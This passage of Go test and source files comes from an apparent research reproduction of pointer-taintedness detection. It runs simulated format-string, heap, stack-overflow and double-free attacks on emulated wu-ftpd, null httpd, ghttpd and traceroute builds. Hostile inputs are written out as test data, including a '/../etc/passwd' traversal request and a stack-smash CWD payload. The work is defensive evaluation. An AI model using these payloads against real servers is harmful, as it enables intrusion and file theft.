		t.Errorf("kind = %v, want store address (the %%n write)", out.Alert.Kind)
	}
	if out.Alert.Value != 0x64636261 {
		t.Errorf("value = %#x, want 0x64636261 (\"abcd\")", out.Alert.Value)
	}
	if !strings.Contains(out.Alert.Symbol, "vfprintf") {
		t.Errorf("alert not inside vfprintf: %q", out.Alert.Symbol)
	}

	// Baseline: the store is to data (no control transfer): not detected.
	out, err = Exp3FormatString(taint.PolicyControlDataOnly)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected {
		t.Errorf("control-data baseline alerted: %v", out)
	}
}

func TestFalseNegativesEscapeEveryPolicy(t *testing.T) {
	scenarios := []struct {
		name string
		run  func(taint.Policy) (Outcome, error)
	}{
		{"integer-overflow", FNIntegerOverflowAttack},
		{"auth-flag", FNAuthFlagAttack},
		{"info-leak", FNInfoLeakAttack},
	}
	policies := []taint.Policy{
		taint.PolicyPointerTaintedness,
		taint.PolicyControlDataOnly,
		taint.PolicyOff,
	}
	for _, sc := range scenarios {
		for _, policy := range policies {
			out, err := sc.run(policy)
			if err != nil {
				t.Fatalf("%s under %v: %v", sc.name, policy, err)
			}
			if out.Detected {
				t.Errorf("%s under %v: unexpectedly detected (%v)", sc.name, policy, out)
			}
			if !out.Compromised {
				t.Errorf("%s under %v: attack did not land (%v)", sc.name, policy, out)
			}
		}
	}
}

// TestAnnotationExtensionDefeatsAuthFlagFN verifies the paper's Section
// 5.3 extension: annotating the auth flag turns the Table 4(B) false
// negative into a detection, under every policy (the watch is orthogonal
// to the dereference detectors).
func TestAnnotationExtensionDefeatsAuthFlagFN(t *testing.T) {
	for _, policy := range []taint.Policy{
		taint.PolicyPointerTaintedness,
		taint.PolicyControlDataOnly,
		taint.PolicyOff,
	} {
		out, err := AnnotatedAuthFlagAttack(policy)
		if err != nil {
			t.Fatalf("%v: %v", policy, err)
		}
		if !out.Detected {
			t.Errorf("%v: annotation missed the overflow: %v", policy, out)
		}
		if !strings.Contains(out.Evidence, "auth-flag") {
			t.Errorf("%v: evidence %q does not name the region", policy, out.Evidence)
		}
	}
	// Benign use of the annotated program still works: a correct password
	// grants access without tripping the watch.
	p, err := mustProg("fn-authflag-annotated")
	if err != nil {
		t.Fatal(err)
	}
	m, err := Boot(p, Options{
		Policy: taint.PolicyPointerTaintedness,
		Stdin:  []byte("s3cr3t\nhello\n"),
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Run(); err != nil {
		t.Fatalf("benign annotated run: %v", err)
	}
	if !strings.Contains(m.Kernel.Stdout(), "access granted") {
		t.Errorf("stdout = %q", m.Kernel.Stdout())
	}
}

// TestEnvOverflow covers the environment taint source: env strings are
// tainted at startup, so the env-driven stack smash is detected at JR.
func TestEnvOverflow(t *testing.T) {
	out, err := EnvOverflowAttack(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected || out.Alert.Value != 0x65656564 {
		t.Errorf("env overflow: %v", out)
	}
	// Benign env values flow through untouched.
	p, _ := mustProg("envutil")
	m, err := Boot(p, Options{
		Policy: taint.PolicyPointerTaintedness,
		Env:    []string{"TERM=vt100"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := m.Run(); err != nil {
		t.Fatalf("benign env run: %v", err)
	}
	if !strings.Contains(m.Kernel.Stdout(), "terminal: vt100") {
		t.Errorf("stdout = %q", m.Kernel.Stdout())
	}
}

// TestDetectionThroughCacheHierarchy re-runs the Fig. 2 attacks with the
// L1/L2 hierarchy interposed: taint bits riding cache lines must preserve
// every detection bit-for-bit (paper Section 4.1).
func TestDetectionThroughCacheHierarchy(t *testing.T) {
	p, _ := mustProg("exp1")
	m, err := Boot(p, Options{
		Policy:    taint.PolicyPointerTaintedness,
		Stdin:     []byte(strings.Repeat("a", 24) + "\n"),
		WithCache: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	out := classify(m.Run())
	if !out.Detected || out.Alert.Value != 0x61616161 {
		t.Errorf("exp1 with caches: %v", out)
	}
	l1, _ := m.Caches.L1Stats(), m.Caches.L2Stats()
	if l1.Hits == 0 {
		t.Error("cache saw no traffic")
	}

	p2, _ := mustProg("exp2")
	m2, err := Boot(p2, Options{
		Policy:    taint.PolicyPointerTaintedness,
		Stdin:     []byte(exp2Payload + "\n"),
		WithCache: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	out = classify(m2.Run())
	if !out.Detected || out.Alert.Value != 0x64646464 {
		t.Errorf("exp2 with caches: %v", out)
	}
}
