package attack

import (
	"errors"

	"repro/internal/asm"
	"repro/internal/cpu"
	"repro/internal/kernel"
	"repro/internal/mem"
)

// Snapshot is an immutable capture of a booted machine: registers, taint
// vectors, memory pages (shared copy-on-write), kernel and network state,
// and the predecoded text. Forking a Snapshot yields an independent
// Machine in that exact state for a fraction of a boot's cost — the unit
// of work the campaign engine replays. A Snapshot never executes, so its
// pages stay frozen and Fork may be called from many goroutines at once.
type Snapshot struct {
	image     *asm.Image
	cpu       *cpu.CPU
	mem       *mem.Memory
	kern      *kernel.Kernel
	budget    uint64
	reference bool
}

// Snapshot captures the machine's current state. The machine must be at a
// host-visible boundary (booted, blocked, or halted), not mid-Run. The
// origin machine remains usable: its pages are frozen, so its next writes
// fault into private copies, leaving the snapshot untouched.
//
// Machines with a cache hierarchy cannot be snapshotted: dirty taint-
// carrying cache lines are not copy-on-write, so forks would alias them.
func (m *Machine) Snapshot() (*Snapshot, error) {
	if m.Caches != nil {
		return nil, errors.New("snapshot: cache-hierarchy machines are not snapshottable")
	}
	m.CPU.NoteSnapshot()
	m.CPU.ShareText()
	smem := m.Mem.Fork()
	skern := m.Kernel.Clone()
	scpu := m.CPU.Fork(smem, skern)
	return &Snapshot{
		image:     m.Image,
		cpu:       scpu,
		mem:       smem,
		kern:      skern,
		budget:    m.budget,
		reference: m.reference,
	}, nil
}

// Stats returns the CPU counters at the snapshot point; campaign
// accounting subtracts them to charge each session only its own work.
func (s *Snapshot) Stats() cpu.Stats { return s.cpu.Stats() }

// Fork stamps out an independent Machine in the snapshot's state: memory
// is shared copy-on-write, the kernel (filesystem, network, fd table) is
// deep-copied, and CPU registers, taint, statistics, and the predecode
// caches are cloned. Fork only reads the snapshot, so it is safe to call
// concurrently from campaign workers. Host-side network Endpoints from
// before the snapshot still address the original machine; a forked
// session opens its own connections via Connect.
func (s *Snapshot) Fork() *Machine {
	fmem := s.mem.Fork()
	fkern := s.kern.Clone()
	fcpu := s.cpu.Fork(fmem, fkern)
	return &Machine{
		Image:     s.image,
		Kernel:    fkern,
		CPU:       fcpu,
		Mem:       fmem,
		budget:    s.budget,
		reference: s.reference,
	}
}
