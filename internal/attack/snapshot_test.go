package attack

import (
	"sync"
	"testing"

	"repro/internal/taint"
)

// TestForkMatchesDirectRun: for every replayable scenario, a session on a
// machine forked from a snapshot must classify identically to a session
// on a directly booted machine, and repeated forks must agree with each
// other — the snapshot layer must be behaviourally invisible.
func TestForkMatchesDirectRun(t *testing.T) {
	for _, sc := range Scenarios() {
		t.Run(sc.Name, func(t *testing.T) {
			direct, err := sc.Prepare(taint.PolicyPointerTaintedness)
			if err != nil {
				t.Fatalf("prepare: %v", err)
			}
			want, err := sc.Session(direct)
			if err != nil {
				t.Fatalf("direct session: %v", err)
			}

			origin, err := sc.Prepare(taint.PolicyPointerTaintedness)
			if err != nil {
				t.Fatalf("prepare: %v", err)
			}
			snap, err := origin.Snapshot()
			if err != nil {
				t.Fatalf("snapshot: %v", err)
			}
			var got [2]Outcome
			for i := range got {
				out, err := sc.Session(snap.Fork())
				if err != nil {
					t.Fatalf("forked session %d: %v", i, err)
				}
				got[i] = out
			}
			if got[0].String() != want.String() {
				t.Errorf("forked outcome differs from direct run:\n fork:   %s\n direct: %s", got[0], want)
			}
			if got[0].String() != got[1].String() {
				t.Errorf("two forks of one snapshot disagree:\n %s\n %s", got[0], got[1])
			}

			// The origin machine must stay usable after being snapshotted:
			// running the session on it directly must still classify the same.
			originOut, err := sc.Session(origin)
			if err != nil {
				t.Fatalf("origin session after snapshot: %v", err)
			}
			if originOut.String() != want.String() {
				t.Errorf("origin diverged after snapshot:\n origin: %s\n direct: %s", originOut, want)
			}
			// And the origin's post-session writes must not have polluted
			// the snapshot: one more fork still reproduces the outcome.
			lateOut, err := sc.Session(snap.Fork())
			if err != nil {
				t.Fatalf("late forked session: %v", err)
			}
			if lateOut.String() != want.String() {
				t.Errorf("fork taken after origin ran diverged:\n fork:   %s\n direct: %s", lateOut, want)
			}
		})
	}
}

// TestConcurrentForkedSessions runs many forks of one snapshot on separate
// goroutines at once; under -race this is the proof that forked machines
// never observe each other's writes.
func TestConcurrentForkedSessions(t *testing.T) {
	sc, ok := ScenarioByName("wuftpd-site-exec")
	if !ok {
		t.Fatal("scenario missing")
	}
	origin, err := sc.Prepare(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatalf("prepare: %v", err)
	}
	snap, err := origin.Snapshot()
	if err != nil {
		t.Fatalf("snapshot: %v", err)
	}

	const sessions = 8
	outs := make([]string, sessions)
	memFPs := make([]uint64, sessions)
	errs := make([]error, sessions)
	var wg sync.WaitGroup
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			m := snap.Fork()
			out, err := sc.Session(m)
			outs[i], memFPs[i], errs[i] = out.String(), m.Mem.Fingerprint(), err
		}(i)
	}
	wg.Wait()
	for i := 0; i < sessions; i++ {
		if errs[i] != nil {
			t.Fatalf("session %d: %v", i, errs[i])
		}
		if outs[i] != outs[0] {
			t.Errorf("session %d outcome diverged:\n %s\n %s", i, outs[i], outs[0])
		}
		if memFPs[i] != memFPs[0] {
			t.Errorf("session %d final memory diverged: %#x vs %#x", i, memFPs[i], memFPs[0])
		}
	}
	if !snap.mem.SpanTainted(0, 0) && snap.cpu.Stats().Instructions == 0 {
		t.Fatal("snapshot unexpectedly empty") // sanity: snapshot captured a booted machine
	}
}

// TestSnapshotRejectsCacheMachines: taint-carrying cache lines are not
// copy-on-write, so cache-hierarchy machines must refuse to snapshot.
func TestSnapshotRejectsCacheMachines(t *testing.T) {
	p, err := mustProg("exp1")
	if err != nil {
		t.Fatal(err)
	}
	m, err := Boot(p, Options{WithCache: true})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.Snapshot(); err == nil {
		t.Fatal("snapshot of a cache-hierarchy machine succeeded; want error")
	}
}
