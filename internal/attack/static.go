package attack

import (
	"sync"

	"repro/internal/analysis"
	"repro/internal/asm"
	"repro/internal/metrics"
	"repro/internal/taint"
)

// DisableStatic turns off static-fact installation at boot: every
// machine then runs with purely dynamic taint checks. The benchmark
// harness flips it to measure the static fast path's contribution.
var DisableStatic bool

// staticKey identifies one analysis run. Images are cached per program
// (progs.Build), so pointer identity is the program identity; the
// propagator matters because its ablation flags gate the untaint rules
// the analysis models.
type staticKey struct {
	im   *asm.Image
	prop taint.Propagator
}

// staticCacheCap bounds the fact cache. The corpus is a few dozen
// programs and each runs under a handful of propagator ablations, so 64
// entries covers every steady-state campaign; the cap exists because the
// key holds an image pointer — an unbounded map would pin every image a
// long-lived fuzzing process ever booted.
const staticCacheCap = 64

// staticFactCache is the process-wide analysis-result cache with FIFO
// eviction and hit/miss/eviction accounting for the metrics layer.
type staticFactCache struct {
	mu        sync.Mutex
	facts     map[staticKey][]uint8 // nil facts when the analysis claimed nothing
	order     []staticKey           // insertion order, oldest first
	hits      uint64
	misses    uint64
	evictions uint64
}

var staticCache = &staticFactCache{facts: make(map[staticKey][]uint8)}

// staticFactsFor returns the per-text-word fact bits for im under prop,
// running the analyzer once per (image, propagator) pair in the steady
// state. The analysis itself runs outside the cache lock; a racing
// duplicate run is harmless (the result is deterministic) and cheaper
// than serializing every boot behind the analyzer.
func staticFactsFor(im *asm.Image, prop taint.Propagator) []uint8 {
	key := staticKey{im, prop}
	c := staticCache
	c.mu.Lock()
	if f, ok := c.facts[key]; ok {
		c.hits++
		c.mu.Unlock()
		return f
	}
	c.misses++
	c.mu.Unlock()

	var facts []uint8
	if res, err := analysis.Analyze(im, prop); err == nil && !res.Bailed {
		facts = res.Facts()
	}

	c.mu.Lock()
	if _, ok := c.facts[key]; !ok {
		c.facts[key] = facts
		c.order = append(c.order, key)
		if len(c.order) > staticCacheCap {
			old := c.order[0]
			c.order = c.order[1:]
			delete(c.facts, old)
			c.evictions++
		}
	}
	c.mu.Unlock()
	return facts
}

// FillStaticCacheMetrics exports the process-wide static-fact cache
// counters into r, alongside the per-machine subsystem counters that
// Machine.Metrics collects.
func FillStaticCacheMetrics(r *metrics.Registry) {
	c := staticCache
	c.mu.Lock()
	defer c.mu.Unlock()
	r.Counter("attack.static_cache.hits").Add(c.hits)
	r.Counter("attack.static_cache.misses").Add(c.misses)
	r.Counter("attack.static_cache.evictions").Add(c.evictions)
	r.Gauge("attack.static_cache.entries").Set(float64(len(c.facts)))
}
