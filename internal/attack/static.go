package attack

import (
	"sync"

	"repro/internal/analysis"
	"repro/internal/asm"
	"repro/internal/taint"
)

// DisableStatic turns off static-fact installation at boot: every
// machine then runs with purely dynamic taint checks. The benchmark
// harness flips it to measure the static fast path's contribution.
var DisableStatic bool

// staticKey identifies one analysis run. Images are cached per program
// (progs.Build), so pointer identity is the program identity; the
// propagator matters because its ablation flags gate the untaint rules
// the analysis models.
type staticKey struct {
	im   *asm.Image
	prop taint.Propagator
}

var staticCache sync.Map // staticKey -> []uint8; nil facts when the analysis claimed nothing

// staticFactsFor returns the per-text-word fact bits for im under prop,
// running the analyzer once per (image, propagator) pair.
func staticFactsFor(im *asm.Image, prop taint.Propagator) []uint8 {
	key := staticKey{im, prop}
	if v, ok := staticCache.Load(key); ok {
		f, _ := v.([]uint8)
		return f
	}
	var facts []uint8
	if res, err := analysis.Analyze(im, prop); err == nil && !res.Bailed {
		facts = res.Facts()
	}
	staticCache.Store(key, facts)
	return facts
}
