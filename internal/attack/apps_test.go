package attack

import (
	"strings"
	"testing"

	"repro/internal/progs"
	"repro/internal/taint"
)

// TestWuFTPDNonControl reproduces the paper's Table 2: the SITE EXEC
// format string targeting the uid word is detected at the %n store in
// vfprintf with the uid address in the dereferenced register.
func TestWuFTPDNonControl(t *testing.T) {
	out, err := WuFTPDNonControl(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Fatalf("not detected: %v", out)
	}
	if out.Alert.Kind != taint.AlertStoreAddress {
		t.Errorf("kind = %v, want store address", out.Alert.Kind)
	}
	if !strings.Contains(out.Alert.Symbol, "vfprintf") {
		t.Errorf("alert not in vfprintf: %q", out.Alert.Symbol)
	}

	// The baseline misses it entirely; the full escalation lands:
	// uid corrupted, backdoor /etc/passwd uploaded.
	out, err = WuFTPDNonControl(taint.PolicyControlDataOnly)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected {
		t.Fatalf("baseline detected a non-control attack: %v", out)
	}
	if !out.Compromised {
		t.Fatalf("compromise did not land: %v", out)
	}
	if !strings.Contains(out.Evidence, "backdoor /etc/passwd uploaded") {
		t.Errorf("evidence = %q", out.Evidence)
	}
}

func TestWuFTPDControl(t *testing.T) {
	for _, policy := range []taint.Policy{taint.PolicyPointerTaintedness, taint.PolicyControlDataOnly} {
		out, err := WuFTPDControl(policy)
		if err != nil {
			t.Fatalf("%v: %v", policy, err)
		}
		if !out.Detected || out.Alert.Kind != taint.AlertJumpTarget {
			t.Errorf("%v: %v", policy, out)
		}
	}
	out, err := WuFTPDControl(taint.PolicyOff)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected || !out.Compromised {
		t.Errorf("unprotected control hijack: %v", out)
	}
}

func TestNullHTTPDNonControl(t *testing.T) {
	out, err := NullHTTPDNonControl(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Fatalf("not detected: %v", out)
	}
	if !strings.Contains(out.Alert.Symbol, "unlink") && !strings.Contains(out.Alert.Symbol, "free") {
		t.Errorf("alert not in the allocator: %q", out.Alert.Symbol)
	}

	out, err = NullHTTPDNonControl(taint.PolicyControlDataOnly)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected {
		t.Fatalf("baseline detected a non-control attack: %v", out)
	}
	if !out.Compromised || !strings.Contains(out.Evidence, "/bin/sh") {
		t.Fatalf("CGI escalation did not land: %v", out)
	}
}

func TestNullHTTPDControl(t *testing.T) {
	out, err := NullHTTPDControl(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	// Pointer taintedness stops the attack inside free(), before any
	// control data is touched.
	if !out.Detected {
		t.Fatalf("not detected: %v", out)
	}
	if out.Alert.Kind == taint.AlertJumpTarget {
		t.Errorf("pointer-taint policy should fire before the jump: %v", out.Alert.Kind)
	}

	// The baseline lets the writes happen but catches the tainted return.
	out, err = NullHTTPDControl(taint.PolicyControlDataOnly)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected || out.Alert.Kind != taint.AlertJumpTarget {
		t.Fatalf("baseline missed the tainted return: %v", out)
	}

	out, err = NullHTTPDControl(taint.PolicyOff)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected || !out.Compromised {
		t.Errorf("unprotected hijack: %v", out)
	}
}

func TestGHTTPDNonControl(t *testing.T) {
	out, err := GHTTPDNonControl(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Fatalf("not detected: %v", out)
	}
	// Paper: "stops the attack when the tainted URL pointer is
	// dereferenced in a load-byte instruction (i.e., LB)".
	if out.Alert.Kind != taint.AlertLoadAddress {
		t.Errorf("kind = %v, want load address", out.Alert.Kind)
	}
	if out.Alert.Instr.Op.Name() != "lb" && out.Alert.Instr.Op.Name() != "lbu" {
		t.Errorf("instr = %v, want lb", out.Alert.Instr.Op)
	}

	out, err = GHTTPDNonControl(taint.PolicyControlDataOnly)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected {
		t.Fatalf("baseline detected a non-control attack: %v", out)
	}
	if !out.Compromised || !strings.Contains(out.Evidence, "/bin/sh") {
		t.Fatalf("traversal bypass did not land: %v", out)
	}
}

func TestGHTTPDControl(t *testing.T) {
	// The overflow path to the return address passes through the url
	// pointer, so pointer taintedness fires at the first tainted
	// dereference (a load through the clobbered url) — earlier than the
	// jump. The control-data baseline fires at the tainted JR.
	out, err := GHTTPDControl(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Fatalf("pointer taintedness missed the smash: %v", out)
	}
	out, err = GHTTPDControl(taint.PolicyControlDataOnly)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected || out.Alert.Kind != taint.AlertJumpTarget {
		t.Errorf("baseline: %v", out)
	}
	out, err = GHTTPDControl(taint.PolicyOff)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected || !out.Compromised {
		t.Errorf("unprotected hijack: %v", out)
	}
}

func TestTracerouteDoubleFree(t *testing.T) {
	out, err := TracerouteDoubleFree(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatal(err)
	}
	if !out.Detected {
		t.Fatalf("not detected: %v", out)
	}
	// The dereferenced word is built from the second -g argument's bytes
	// ("5.6." = 0x2e362e35).
	if out.Alert.Value != 0x2E362E35 {
		t.Errorf("value = %#x, want 0x2e362e35", out.Alert.Value)
	}
	if !strings.Contains(out.Alert.Symbol, "unlink") && !strings.Contains(out.Alert.Symbol, "free") {
		t.Errorf("alert not in the allocator: %q", out.Alert.Symbol)
	}

	out, err = TracerouteDoubleFree(taint.PolicyControlDataOnly)
	if err != nil {
		t.Fatal(err)
	}
	if out.Detected {
		t.Fatalf("baseline detected the double free: %v", out)
	}
	if !out.Compromised {
		t.Errorf("corruption did not land: %v", out)
	}
}

// TestBenignTrafficNoAlerts runs ordinary sessions against every server
// under the paper's policy: no false positives.
func TestBenignTrafficNoAlerts(t *testing.T) {
	// FTP: full login + commands.
	m, conn, err := ftpLogin(taint.PolicyPointerTaintedness)
	if err != nil {
		t.Fatalf("ftp benign: %v", err)
	}
	if out, err := conn.cmd("CWD /home/user1"); err != nil || !strings.Contains(out, "250") {
		t.Errorf("CWD: %q %v", out, err)
	}
	if out, err := conn.cmd("SITE EXEC hello"); err != nil || !strings.Contains(out, "200") {
		t.Errorf("SITE EXEC: %q %v", out, err)
	}
	if out, err := conn.cmd("QUIT"); err == nil && !strings.Contains(out, "221") {
		t.Errorf("QUIT: %q", out)
	}
	_ = m

	// HTTP servers: benign GET/POST.
	p, _ := mustProg("nullhttpd")
	hm, err := Boot(p, Options{Policy: taint.PolicyPointerTaintedness})
	if err != nil {
		t.Fatal(err)
	}
	if err := hm.RunToBlock(); err != nil {
		t.Fatal(err)
	}
	ep, err := hm.Connect(80)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := hm.Transact(ep, "GET /index.html HTTP/1.0\r\n\r\n")
	if err != nil || !strings.Contains(resp, "200 OK") {
		t.Errorf("nullhttpd GET: %q %v", resp, err)
	}
	resp, err = hm.Transact(ep, "GET /cgi/status HTTP/1.0\r\n\r\n")
	if err != nil || !strings.Contains(resp, "EXEC /cgi/status") {
		t.Errorf("nullhttpd CGI: %q %v", resp, err)
	}
	// A well-formed POST with a correct Content-Length.
	resp, err = hm.Transact(ep, "POST /form HTTP/1.0\r\nContent-Length: 11\r\n\r\nhello=world")
	if err != nil {
		t.Errorf("nullhttpd POST: %v", err)
	}
	_ = resp

	gp, _ := mustProg("ghttpd")
	gm, err := Boot(gp, Options{Policy: taint.PolicyPointerTaintedness})
	if err != nil {
		t.Fatal(err)
	}
	if err := gm.RunToBlock(); err != nil {
		t.Fatal(err)
	}
	gep, err := gm.Connect(8080)
	if err != nil {
		t.Fatal(err)
	}
	resp, err = gm.Transact(gep, "GET /index.html HTTP/1.0\n")
	if err != nil || !strings.Contains(resp, "200 OK") {
		t.Errorf("ghttpd GET: %q %v", resp, err)
	}
	// The traversal policy fires on a benign-plumbing level too.
	gm2, _ := Boot(gp, Options{Policy: taint.PolicyPointerTaintedness})
	if err := gm2.RunToBlock(); err != nil {
		t.Fatal(err)
	}
	gep2, _ := gm2.Connect(8080)
	resp, err = gm2.Transact(gep2, "GET /../etc/passwd HTTP/1.0\n")
	if err != nil || !strings.Contains(resp, "403") {
		t.Errorf("ghttpd traversal check: %q %v", resp, err)
	}

	// traceroute with ordinary arguments.
	tp, _ := mustProg("traceroute")
	tm, err := Boot(tp, Options{
		Policy: taint.PolicyPointerTaintedness,
		Args:   []string{"-g", "10.0.0.1", "example.org"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := tm.Run(); err != nil {
		t.Errorf("traceroute benign run: %v", err)
	}
	if !strings.Contains(tm.Kernel.Stdout(), "1 gateway") {
		t.Errorf("traceroute output: %q", tm.Kernel.Stdout())
	}
}

// TestPatchedWuFTPDResistsAttacks closes the vulnerability lifecycle: the
// daemon with the upstream fix shapes (format string as data, bounded CWD
// copy) shrugs off the exact payloads that compromise the vulnerable
// build — even with detection off.
func TestPatchedWuFTPDResistsAttacks(t *testing.T) {
	payload, uidAddr, err := CalibrateWuFTPDFormat()
	if err != nil {
		t.Fatal(err)
	}
	p, ok := progs.ByName("wuftpd-patched")
	if !ok {
		t.Fatal("patched corpus entry missing")
	}
	m, err := Boot(p, Options{Policy: taint.PolicyOff, Budget: 20_000_000})
	if err != nil {
		t.Fatal(err)
	}
	if err := m.RunToBlock(); err != nil {
		t.Fatal(err)
	}
	ep, err := m.Connect(21)
	if err != nil {
		t.Fatal(err)
	}
	conn := ftpConn{m: m, ep: ep}
	if out, _ := conn.cmd(""); !strings.Contains(out, "220") {
		t.Fatalf("greeting: %q", out)
	}
	conn.cmd("USER user1")
	conn.cmd("PASS xxxxxxx")
	// The format-string payload is echoed as inert text.
	resp, runErr := conn.cmd(payload)
	if runErr != nil {
		t.Fatalf("patched server died: %v", runErr)
	}
	if !strings.Contains(resp, "%n") {
		t.Errorf("payload not echoed verbatim: %q", resp)
	}
	// uid is intact on the patched build.
	patchedUID, _, err := m.Mem.LoadWord(m.Image.Symbols["uid"])
	if err != nil || patchedUID != 1000 {
		t.Errorf("patched uid = %d (%v), want 1000", patchedUID, err)
	}
	_ = uidAddr
	// The CWD smash payload is truncated harmlessly.
	resp, runErr = conn.cmd("CWD " + strings.Repeat("a", 68) + wordBytes(0x61616160))
	if runErr != nil {
		t.Fatalf("patched CWD crashed: %v", runErr)
	}
	if !strings.Contains(resp, "250") {
		t.Errorf("CWD reply: %q", resp)
	}
	if out, _ := conn.cmd("QUIT"); !strings.Contains(out, "221") {
		t.Errorf("QUIT: %q", out)
	}
}
