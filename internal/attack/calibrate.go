package attack

import "sync"

// calibration memoizes attacker-side probe results (payload walk
// distances, frame addresses). A real attacker measures a local copy of
// the victim binary once and reuses the numbers; re-probing per run would
// only re-discover the same deterministic layout.
var calibration sync.Map

// calibrated returns the cached value for key, computing it with fn on
// first use. Errors are not cached.
func calibrated[T any](key string, fn func() (T, error)) (T, error) {
	if v, ok := calibration.Load(key); ok {
		return v.(T), nil
	}
	v, err := fn()
	if err != nil {
		var zero T
		return zero, err
	}
	calibration.Store(key, v)
	return v, nil
}
