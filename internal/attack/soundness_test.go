package attack

import (
	"errors"
	"testing"

	"repro/internal/analysis"
	"repro/internal/asm"
	"repro/internal/cpu"
	"repro/internal/kernel"
	"repro/internal/progs"
	"repro/internal/taint"
)

// analyzeImage runs the static analyzer with the same (default)
// propagation configuration the dynamic machines in this file use.
func analyzeImage(t *testing.T, im *asm.Image) *analysis.Result {
	t.Helper()
	res, err := analysis.Analyze(im, taint.Propagator{})
	if err != nil {
		t.Fatalf("analyze: %v", err)
	}
	return res
}

// assertAlertSound is the soundness oracle: a dynamic tainted-dereference
// alert must land on an instruction the static analyzer flagged
// MayDereferenceTainted. ProvablyClean there means the analyzer issued a
// wrong proof; VerdictNone means it never reached code that demonstrably
// executes. Either way the static may-alert set failed to cover a real
// alert.
func assertAlertSound(t *testing.T, name string, res *analysis.Result, alert *cpu.SecurityAlert) {
	t.Helper()
	if alert == nil {
		return
	}
	v := res.VerdictAt(alert.PC)
	if v != analysis.MayDereferenceTainted {
		t.Errorf("%s: dynamic alert at %#x (%s) has static verdict %v; the may-alert set must cover every real alert",
			name, alert.PC, alert.Error(), v)
	}
}

// TestSoundnessScenarios replays every attack scenario under the
// pointer-taintedness policy and checks each raised alert against the
// static may-alert set.
func TestSoundnessScenarios(t *testing.T) {
	for _, s := range Scenarios() {
		s := s
		t.Run(s.Name, func(t *testing.T) {
			m, err := s.Prepare(taint.PolicyPointerTaintedness)
			if err != nil {
				t.Fatalf("prepare: %v", err)
			}
			out, err := s.Session(m)
			if err != nil {
				t.Fatalf("session: %v", err)
			}
			if !out.Detected {
				t.Fatalf("scenario not detected: %s", out)
			}
			assertAlertSound(t, s.Name, analyzeImage(t, m.Image), out.Alert)
		})
	}
}

// TestSoundnessAndLintOnExploitedPaths runs the four real-app attacks of
// Section 5.1 and requires, for each, that the dynamic alert on the
// exploited path (the %n store, the unlink write, the stack strcpy, the
// double free) lands on a MayDereferenceTainted instruction — i.e.
// ptlint flags the exploited path statically.
func TestSoundnessAndLintOnExploitedPaths(t *testing.T) {
	cases := []struct {
		name string
		prog string
		run  func(taint.Policy) (Outcome, error)
	}{
		{"wuftpd-format-percent-n", "wuftpd", WuFTPDNonControl},
		{"wuftpd-control", "wuftpd", WuFTPDControl},
		{"nullhttpd-heap-unlink", "nullhttpd", NullHTTPDNonControl},
		{"nullhttpd-control", "nullhttpd", NullHTTPDControl},
		{"ghttpd-stack-strcpy", "ghttpd", GHTTPDNonControl},
		{"ghttpd-control", "ghttpd", GHTTPDControl},
		{"traceroute-double-free", "traceroute", TracerouteDoubleFree},
	}
	for _, tc := range cases {
		tc := tc
		t.Run(tc.name, func(t *testing.T) {
			out, err := tc.run(taint.PolicyPointerTaintedness)
			if err != nil {
				t.Fatalf("attack: %v", err)
			}
			if !out.Detected {
				t.Fatalf("attack not detected: %s", out)
			}
			p, ok := progs.ByName(tc.prog)
			if !ok {
				t.Fatalf("program %q missing", tc.prog)
			}
			im, err := p.Build()
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			res := analyzeImage(t, im)
			assertAlertSound(t, tc.name, res, out.Alert)
			if chain := res.ChainAt(out.Alert.PC); chain == "" {
				t.Errorf("%s: no reaching-taint chain at the alert pc %#x", tc.name, out.Alert.PC)
			}
		})
	}
}

// TestSoundnessCorpus boots every corpus program benignly on the fast
// path (static facts installed) under the pointer policy; any alert a
// run raises must lie in the static may-alert set, and runs must agree
// with the facts-free reference on alert presence.
func TestSoundnessCorpus(t *testing.T) {
	for _, p := range progs.All() {
		p := p
		t.Run(p.Name, func(t *testing.T) {
			m, err := Boot(p, Options{
				Policy: taint.PolicyPointerTaintedness,
				Stdin:  []byte("lint probe input\n"),
				Budget: 30_000_000,
			})
			if err != nil {
				t.Fatalf("boot: %v", err)
			}
			err = m.Run()
			var alert *cpu.SecurityAlert
			var blocked *kernel.BlockedError
			var exit *cpu.ExitError
			switch {
			case err == nil, errors.As(err, &blocked), errors.As(err, &exit):
				return // benign outcome
			case errors.As(err, &alert):
				res := analyzeImage(t, m.Image)
				assertAlertSound(t, p.Name, res, alert)
			default:
				// Faults (e.g. budget) are fine for this test's purpose.
			}
		})
	}
}
