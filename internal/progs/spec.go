package progs

// SpecSuite returns the six SPEC 2000 INT analogue workloads used for the
// Table 3 false-positive evaluation. Each reads its input file through
// SYS_READ (so every input byte enters tainted) and pushes the data
// through heavy computation — including the validated-table-lookup pattern
// the compare-untaint rule exists for — without ever using input bytes as
// pointers. The paper's claim under reproduction: zero alerts.
func SpecSuite() []Program {
	return []Program{
